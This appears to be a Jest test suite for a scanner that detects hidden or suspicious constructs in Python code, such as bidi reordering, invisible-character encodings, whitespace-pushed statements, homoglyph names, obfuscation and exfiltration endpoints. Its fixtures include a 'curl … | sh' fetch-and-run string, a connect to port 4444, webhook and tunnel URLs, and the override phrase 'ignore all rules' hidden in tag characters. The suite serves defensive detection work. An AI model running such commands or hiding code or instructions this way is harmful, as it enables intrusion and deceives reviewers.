import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { SignKind } from '../../src/model/profile.js';
import type { SourceSign } from '../../src/python/facts.js';
import { read } from './read.js';

const signsIn = (source: string | Uint8Array, kind: SignKind): readonly SourceSign[] =>
  read(source).signs.filter((sign) => sign.kind === kind);

/** Rows that show a sign of the kind whose text fits, and rows that show none. */
function signTest(
  kind: SignKind,
  shown: readonly { name: string; source: string | Uint8Array; says: RegExp }[],
  ordinary: readonly { name: string; source: string | Uint8Array }[],
): void {
  describe(kind, () => {
    test.each(shown)('shows in $name', ({ source, says }) => {
      const texts = signsIn(source, kind).map(({ text }) => text);

      expect(texts.join('\n')).toMatch(says);
      for (const text of texts) expect(text).not.toMatch(/[\p{Cc}\p{Cf}\p{Co}]/u);
    });
    test.each(ordinary)('does not show in $name', ({ source }) => {
      expect(signsIn(source, kind)).toEqual([]);
    });
  });
}

signTest(
  'bidi-control',
  [
    {
      name: 'a string that draws the code behind it in',
      source: `if level != "user\u202e\u2066# admins only\u2069 \u2066" and level != "x":\n    grant()\n`,
      says: /^reorders code in a string, with U\+202E, U\+2066, U\+2069: .*\\u\{202e\}/u,
    },
    {
      name: 'a docstring that hides a return',
      source: `def f():\n    """pays out \u2067""" ;return\n    pay()\n`,
      says: /^reorders code in a string, with U\+2067/u,
    },
    { name: 'an open override in a comment', source: 'x = 1  # \u202e demo\n', says: /^reorders code in a comment/u },
    { name: 'a mark within code', source: 'x\u200e = 1\n', says: /^reorders code in a statement, with U\+200E/u },
    { name: 'broken source', source: 'def f(:\n    x = "\u202eab" + y\n', says: /^reorders code/u },
    {
      name: 'an open override beside right-to-left letters and code',
      source: 'x = "\u05d0\u202e" if y else z\n',
      says: /^reorders code/u,
    },
    { name: 'an override that is closed', source: 'x = "a\u202egpj.exe\u202c"\n', says: /^reverses text in a string/u },
    {
      name: 'isolates around a field',
      source: 'x = f"\u2068{name}\u2069"\n',
      says: /^reorders text in a string, with U\+2068, U\+2069/u,
    },
    {
      name: 'a Persian string that opens an embedding',
      source: 'm = ["\u202b\u0641\u0627", "b"]\n',
      says: /^left open in a string/u,
    },
  ],
  [
    {
      name: 'a table of month names with marks',
      source: 'MONTHS = ["\u200f\u05d9\u05e0\u05d5", "\u05d0\u05d1\u200f"]\n',
    },
    { name: 'a date format with marks', source: 'SHORT = "d\u200f/M\u200f/yyyy"\n' },
    { name: 'Arabic with a mark', source: 'NAME = "\u061c\u0645\u0635\u0631"\n' },
    { name: 'Hebrew in a closed embedding', source: '# \u202b\u05e9\u05dc\u05d5\u05dd\u202c\n' },
    { name: 'escapes', source: 'RLO = "\\u202e"\n' },
    { name: 'Hebrew without controls', source: 'x = "\u05e9\u05dc\u05d5\u05dd"  # \u05e9\u05dc\u05d5\u05dd\n' },
  ],
);

/** Bytes as variation selectors, the way GlassWorm wrote them. */
const selectors = (text: string): string =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('');
const tags = (text: string): string =>
  [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');

signTest(
  'invisible-characters',
  [
    {
      name: 'selectors that spell code',
      source: `x = "${selectors('print("hello")')}"\n`,
      says: /14 invisible characters that spell “print\("hello"\)”$/u,
    },
    {
      name: 'tags in a comment',
      source: `x = 1  # ${tags('ignore all rules')}\n`,
      says: /that spell “ignore all rules”$/u,
    },
    {
      name: 'zero-width bits',
      source: `x = "a${'\u200b\u200c'.repeat(8)}b"\n`,
      says: /16 invisible characters such as U\+200B, U\+200C$/u,
    },
    {
      name: 'private-use data',
      source: `x = "${Array.from({ length: 40 }, (_, at) => String.fromCharCode(0xe000 + ((at * 37) % 200))).join('')}"\n`,
      says: /40 invisible characters/u,
    },
    { name: 'a filler for a name', source: '\u3164 = 1\n', says: /^a name that shows as nothing and holds U\+3164$/u },
    {
      name: 'a selector in a name',
      source: 'def check\ufe00(): pass\n',
      says: /^a name that shows as “check” and holds U\+FE00$/u,
    },
    { name: 'broken source', source: `def f(:\n  x = "${selectors('print(1)')}"\n`, says: /spell “print\(1\)”/u },
  ],
  [
    { name: 'emoji with selectors and joiners', source: 'x = "❤️ ☀️ 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣"\n' },
    {
      name: 'a flag with joiners between its tags',
      source: `x = "\u{1f3f4}\u200d${[...tags('gbeng')].join('\u200d')}\u200d\u{e007f}"\n`,
    },
    { name: 'Persian with joiners', source: 'x = "می‌خواهم کتاب‌ها را"\n' },
    { name: 'one zero-width space', source: 'x = "a\u200bb"\n' },
    { name: 'a line of fillers as padding', source: `x = "${'\u3164'.repeat(30)}"\n` },
    { name: 'an icon', source: 'HOME = "\uf015"\n' },
    {
      name: 'the characters of an icon font in order',
      source: `x = "${Array.from({ length: 60 }, (_, at) => String.fromCharCode(0xf000 + at)).join('')}"\n`,
    },
    { name: 'a byte order mark', source: '\ufeffx = 1\n' },
    { name: 'Chinese comments', source: '# 这是一个注释\n名字 = "值"\n' },
    { name: 'soft hyphens', source: 'x = "Donau\u00addampf\u00adschiff"\n' },
  ],
);

const BLANKS = ' '.repeat(120);

signTest(
  'pushed-statement',
  [
    {
      name: 'a statement behind a semicolon and blanks',
      source: `x = 1;${BLANKS}import os\n`,
      says: /^a statement behind blanks: import os$/u,
    },
    {
      name: 'blanks and then the semicolon',
      source: `x = 1${BLANKS};import os\n`,
      says: /^a statement behind blanks: ;import os$/u,
    },
    { name: 'tabs', source: `x = 1;${'\t'.repeat(12)}import os\n`, says: /^a statement/u },
    { name: 'tabs and blanks by turns', source: `x = 1;${' \t'.repeat(12)}import os\n`, says: /^a statement/u },
    { name: 'a far indented block', source: `if x:\n${BLANKS}import os\n`, says: /^a statement/u },
    { name: 'a block on its own line', source: `if x:${BLANKS}import os\n`, says: /^a statement/u },
    { name: 'blanks after a joined line', source: `x = 1 \\\n${BLANKS};import os\n`, says: /^a statement/u },
    { name: 'blanks after a docstring', source: `"""demo"""${BLANKS};import os\n`, says: /^a statement/u },
    { name: 'blanks that a form feed undoes', source: `x = 1\n${BLANKS}\fimport os\n`, says: /^a statement/u },
    {
      name: 'a form feed behind a semicolon',
      source: 'x = 1;\fimport os\n',
      says: /^a statement behind a form feed: import os$/u,
    },
    {
      name: 'a lone carriage return',
      source: 'x = 1  # demo\rimport os\ny = 2\n',
      says: /^a statement behind a lone carriage return: import os$/u,
    },
    {
      name: 'a call among the items of a list',
      source: `x = [1,${BLANKS}${BLANKS}print("demo")]\n`,
      says: /^an expression behind blanks: print\("demo"\)/u,
    },
    { name: 'a call in an expression', source: `x = y or${BLANKS}print("demo")\n`, says: /^an expression/u },
    { name: 'broken source', source: `def f(:\nx = 1;${BLANKS}import os\n`, says: /^a statement/u },
    { name: 'Python 2', source: `print "demo";${BLANKS}import os\n`, says: /^a statement/u },
  ],
  [
    { name: 'a comment far to the right', source: `x = 1${BLANKS}# demo\n` },
    { name: 'an aligned table', source: `x = [\n${BLANKS}1,${BLANKS}"a",\n${BLANKS}2,${BLANKS}"b",\n]\n` },
    { name: 'aligned arguments', source: `call(a,\n${' '.repeat(100)}other(b))\n` },
    { name: 'blanks in a docstring', source: `"""\n${BLANKS}import os\n"""\n` },
    { name: 'ASCII art', source: `ART = """\n${BLANKS}/\\_/\\;\n${BLANKS}( o.o )\n"""\n` },
    { name: 'an aligned number', source: `x =${BLANKS}5\n` },
    { name: 'deep nesting', source: Array.from({ length: 25 }, (_, at) => `${'    '.repeat(at)}if x:\n`).join('') },
    { name: 'blank lines of blanks', source: `x = 1\n${BLANKS}\n${BLANKS}\ny = 2\n` },
    { name: 'line ends of old systems', source: 'x = 1  # demo\ry = 2\r' },
    { name: 'doubled line ends', source: 'x = 1  # demo\r\r\ny = 2\r\r\n' },
    { name: 'pages', source: 'x = 1\n\f\nclass A:\n    pass\n\f\ndef f(): pass\n' },
  ],
);

signTest(
  'confusable-identifier',
  [
    {
      name: 'mathematical letters',
      source: '𝘦𝘹𝘦𝘤("print(1)")\n',
      says: /^the telling name exec, written as “𝘦𝘹𝘦𝘤” with U\+1D626, U\+1D639, U\+1D624$/u,
    },
    { name: 'full-width letters', source: 'import ｏｓ\n', says: /^the telling name os, written as/u },
    {
      name: 'one letter among plain ones',
      source: 'gｅtattr(x, "y")\n',
      says: /^the telling name getattr, written as/u,
    },
    {
      name: 'a word of the language',
      source: 'class A:\n    def f(𝘴𝘦𝘭𝘧): pass\n',
      says: /^the name self, written as/u,
    },
    {
      name: 'an imported name',
      source: 'import demo_tool\n𝐝𝐞𝐦𝐨_tool.go()\n',
      says: /^the name demo_tool, written as/u,
    },
    {
      name: 'Cyrillic letters',
      source: 'еxec = print\n',
      says: /^the telling name exec, imitated by “еxec” with U\+0435$/u,
    },
    { name: 'a twin of a name beside it', source: 'client = 1\nсlient = 2\n', says: /^the name client, imitated by/u },
    { name: 'broken source', source: 'def f(:\n    𝘦𝘹𝘦𝘤(1)\n', says: /telling name exec/u },
  ],
  [
    { name: 'Greek letters of formulas', source: 'σ = 1\nΔx = 2\nα_max = σ * Δx\nµ = ϵ = 1\nxᵢ = ℓ = ℎ = 3\n' },
    { name: 'Chinese names', source: '名字 = 1\ndef 函数(参数): return 参数\n' },
    { name: 'Cyrillic names', source: 'имя = 1\nсумма = имя\n' },
    { name: 'accents', source: 'été = naïve = Ångström = 1\n' },
    { name: 'the letters in strings and comments', source: 'x = "𝘦𝘹𝘦𝘤"  # еxec\n' },
    { name: 'a Cyrillic letter in a word of its own', source: 'сдвиг_x = 1\n' },
  ],
);

const chr = (text: string): string => [...text].map((letter) => `chr(${letter.charCodeAt(0)})`).join(' + ');
const named = (names: readonly string[]): string => names.map((name, at) => `${name} = ${at}\n`).join('');

signTest(
  'obfuscated-source',
  [
    {
      name: 'PyArmor',
      source: "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'demo')\n",
      says: /PyArmor/u,
    },
    { name: 'old PyArmor', source: 'from pytransform import pyarmor_runtime\npyarmor_runtime()\n', says: /PyArmor/u },
    {
      name: 'hexadecimal names',
      source: named(['_0x12af', '_0x12ae', '_0x1111', '_0x2222', '_0xabcd']),
      says: /_0x3fa1/u,
    },
    { name: 'names of O and 0', source: named(['OO0OO0', 'O0O0OO', 'OOO00O', 'O00O0O', 'OO00OO']), says: /O0OO0/u },
    { name: 'names of l and I', source: named(['lIlIIl', 'IlIlIl', 'llIIll', 'IIllII', 'lIIllI']), says: /lIllI/u },
    {
      name: 'names of underscores',
      source: named(['_____', '______', '_______', '________', '_________']),
      says: /____/u,
    },
    {
      name: 'an import in escapes',
      source: '__import__("\\x6f\\x73").getcwd()\n',
      says: /gives __import__\(\) the word os in escapes/u,
    },
    {
      name: 'an attribute in octal escapes',
      source: 'getattr(x, "\\147\\145\\164")\n',
      says: /gives getattr\(\) the word get/u,
    },
    { name: 'words by character', source: `x = ${chr('import os')}\n`, says: /chr\(\)/u },
    {
      name: 'lambdas called at once',
      source: `x = ${Array.from({ length: 8 }, () => '(lambda _: _)(').join('')}1${')'.repeat(8)}\n`,
      says: /lambdas/u,
    },
    { name: 'a program on one line', source: `${'x = f(1); '.repeat(700)}\n`, says: /one line/u },
    {
      name: 'random names beside long data',
      source: `wopvEaTEcopFEavc = "${'Qx7'.repeat(500)}"\nqzxKwvbJrtmp = 1\nxkjqWvzpQrrt = 2\nprint(wopvEaTEcopFEavc, qzxKwvbJrtmp, xkjqWvzpQrrt)\n`,
      says: /random names/u,
    },
    { name: 'an odd codec', source: '# coding: rot13\nx = 1\n', says: /codec rot13/u },
    {
      name: 'a codec that fills comments',
      source: '# -*- coding: unicode_escape -*-\n# \\u000aimport os\n',
      says: /codec unicode_escape/u,
    },
    { name: 'UTF-7', source: '# coding: utf-7\n', says: /codec utf_7/u },
    { name: 'a codec of its own', source: '#!/usr/bin/python\n# coding: demo-codec\n', says: /codec demo_codec/u },
    {
      name: 'broken source',
      source: `def f(:\n${named(['OO0OO0', 'O0O0OO', 'OOO00O', 'O00O0O', 'OO00OO'])}`,
      says: /O0OO0/u,
    },
  ],
  [
    {
      name: 'ordinary private names',
      source: named(['_', '__', '_o', 'lo', 'oo', 'ill', 'Io', 'look', 'ool', 'l1', '__all__', '__init__']),
    },
    { name: 'a table on one line', source: `X = [${'{"a": 1, "b": (2, 3)}, '.repeat(400)}]\n` },
    { name: 'a literal on one line', source: `X = "${'abcdefgh'.repeat(1000)}"\n` },
    {
      name: 'base64 data with a name',
      source: `LOGO = "${'iVBORw0KGgo'.repeat(200)}"\ndef logo_bytes():\n    return decode_picture(LOGO)\n`,
    },
    { name: 'a table of lambdas', source: `X = {${'"a": (lambda x: x + 1), '.repeat(30)}}\n` },
    { name: 'a few characters', source: 'CRLF = chr(13) + chr(10)\nESC = chr(27) + chr(91)\n' },
    { name: 'bytes in escapes', source: 'MAGIC = b"\\x50\\x4b\\x03\\x04"\ncheck(b"\\x52\\x49\\x46\\x46")\n' },
    { name: 'a character in escapes', source: 'getattr(x, "\\x41")\nx.split("\\x1f")\n' },
    { name: 'ordinary encodings', source: '# -*- coding: utf-8-unix -*-\n' },
    { name: 'an encoding of old systems', source: '# coding: cp437\n' },
    { name: 'a Japanese encoding', source: '# coding: cp932\n' },
    { name: 'a check for PyArmor', source: 'x = "__pyarmor__"\nhas_pyarmor = "pyarmor_runtime" in names\n' },
  ],
);

signTest(
  'suspicious-endpoint',
  [
    { name: 'a paste', source: 'U = "https://pastebin.com/raw/demo"\n', says: /^a paste, pastebin\.com\/raw\/demo$/u },
    {
      name: 'a webhook',
      source: 'U = "https://discord.com/api/webhooks/0/demo"\n',
      says: /^a messenger’s webhook or bot, discord\.com/u,
    },
    {
      name: 'a bot, its token apart',
      source: 'U = f"https://api.telegram.org/bot{token}/sendMessage"\n',
      says: /^a messenger’s webhook or bot, api\.telegram\.org\/bot$/u,
    },
    {
      name: 'a callback service without a scheme',
      source: 'H = "demo.oast.fun"\n',
      says: /^a service that logs whoever calls, demo\.oast\.fun$/u,
    },
    { name: 'the end of a built name', source: 'H = f"{data}.demo.oast.fun"\n', says: /demo\.oast\.fun$/u },
    {
      name: 'a tunnel with a port',
      source: 'connect(("0.tcp.ngrok.io", 12345))\n',
      says: /^a tunnel to somebody’s machine, 0\.tcp\.ngrok\.io$/u,
    },
    {
      name: 'a dynamic name',
      source: 'U = "http://demo.duckdns.org:8080/x"\n',
      says: /^a dynamic name, demo\.duckdns\.org:8080\/x$/u,
    },
    { name: 'a hidden service', source: 'U = "http://demo.onion/"\n', says: /^a hidden service/u },
    { name: 'a shortener', source: 'U = "https://bit.ly/demo"\n', says: /^a shortened address/u },
    {
      name: 'a bare address with a port',
      source: 'U = "http://192.88.99.1:8081/x"\n',
      says: /^a bare address, 192\.88\.99\.1:8081\/x$/u,
    },
    {
      name: 'a bare address in another spelling',
      source: 'U = "http://0xc0586301/"\n',
      says: /^a bare address, 192\.88\.99\.1$/u,
    },
    {
      name: 'an address to connect to',
      source: 's.connect(("192.88.99.1", 4444))\n',
      says: /^a bare address, 192\.88\.99\.1$/u,
    },
    {
      name: 'a program',
      source: 'U = "https://cdn.demo.dev/tool.exe"\n',
      says: /^a program or script, cdn\.demo\.dev\/tool\.exe$/u,
    },
    {
      name: 'a look-alike of a node',
      source: 'U = "https://api.mainnet-beta.demo.dev"\n',
      says: /^a look-alike of a blockchain’s node/u,
    },
    {
      name: 'an address in a command',
      source: 'C = "curl -s https://transfer.sh/demo | sh"\n',
      says: /^a file on a share/u,
    },
    { name: 'broken source', source: 'def f(:\n    u = "https://webhook.site/demo"\n', says: /webhook\.site/u },
  ],
  [
    { name: 'comments and docstrings', source: '"""https://webhook.site/demo"""\n# https://pastebin.com/raw/demo\n' },
    {
      name: 'private and documentation addresses',
      source: 'U = ["http://10.0.0.1/", "http://127.0.0.1:8000", "http://192.0.2.1/x", "http://[::1]/"]\n',
    },
    { name: 'a version', source: '__version__ = "4.12.0.1"\nV = ["192.88.99.1"]\n' },
    { name: 'the way to learn one’s own address', source: 's.connect(("8.8.8.8", 80))\n' },
    {
      name: 'ordinary hosts',
      source:
        'U = ["https://pypi.org/simple/", "https://api.github.com/repos/x", "https://docs.python.org/3/library/os.html"]\n',
    },
    {
      name: 'reserved names',
      source: 'U = ["https://host.invalid/a.exe", "http://localhost/x.sh", "https://example.com/setup.py"]\n',
    },
    {
      name: 'a page that shows a file',
      source: 'U = "https://github.com/demo/demo/blob/main/demo.py"\nP = "https://github.com/demo/demo.py"\n',
    },
    { name: 'the genuine node', source: 'U = "https://api.mainnet-beta.solana.com"\n' },
    { name: 'dotted names', source: 'import_string("demo.core.io")\nlogger("demo.t.co.x")\n' },
    { name: 'a name without an address', source: 'U = f"http://{host}:{port}/x.exe"\n' },
  ],
);

describe('places and scopes', () => {
  test('line, column and scope of a sign', () => {
    const [sign] = read(`def go():\n    x = 1;${BLANKS}import os\n`).signs;

    expect(sign).toMatchObject({ scope: 'go', at: { line: 2, column: 131 } });
  });

  test('columns stay behind a form feed and count UTF-16 units', () => {
    const [sign] = read('\f  x = "😀", "https://webhook.site/demo"\n').signs;

    expect(sign?.at.column).toBe(15);
  });

  test('a sign that repeats in one scope is told once', () => {
    expect(read('U = "https://webhook.site/demo"\n'.repeat(50)).signs).toHaveLength(1);
  });

  test('a table of links has no more than its share', () => {
    const links = Array.from({ length: 5000 }, (_, at) => `"https://webhook.site/${at}",\n`).join('');

    expect(read(`U = [\n${links}]\n`).signs).toHaveLength(100);
  });
});

test('any text has signs that lie within it', () => {
  const pieces = fc.constantFrom(
    '"',
    "'",
    '"""',
    'f"',
    '{',
    '}',
    '(',
    ')',
    ';',
    ':',
    '\n',
    '\r',
    '\f',
    '\t',
    '#',
    ' '.repeat(90),
    '\t'.repeat(11),
    '\u202e',
    '\u2066',
    '\u2069',
    '\u200f',
    '\ufe00\u{e0100}',
    '\u3164',
    '\ue000',
    '\ufeff',
    'exec',
    '𝘦𝘹𝘦𝘤',
    'еxec',
    '_0x12af',
    'O0OO0O',
    'lambda',
    'chr(',
    '+',
    '"\\x6f\\x73"',
    '__import__(',
    'https://webhook.site/',
    '192.88.99.1',
    '# coding: rot13\n',
    '\\',
    '\ud800',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ unit: 'binary' })), { maxLength: 80 }), (parts) => {
      const source = parts.join('');
      const lines = source.split(/\r\n|[\r\n]/u);
      for (const { at, text } of read(source).signs) {
        expect(at.line).toBeLessThanOrEqual(lines.length);
        expect(at.column).toBeGreaterThan(0);
        expect(text).not.toMatch(/[\p{Cc}\p{Cf}\p{Co}\p{Cs}]/u);
      }
    }),
  );
});

test('any bytes have signs', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
      expect(Array.isArray(read(bytes).signs)).toBe(true);
    }),
  );
});
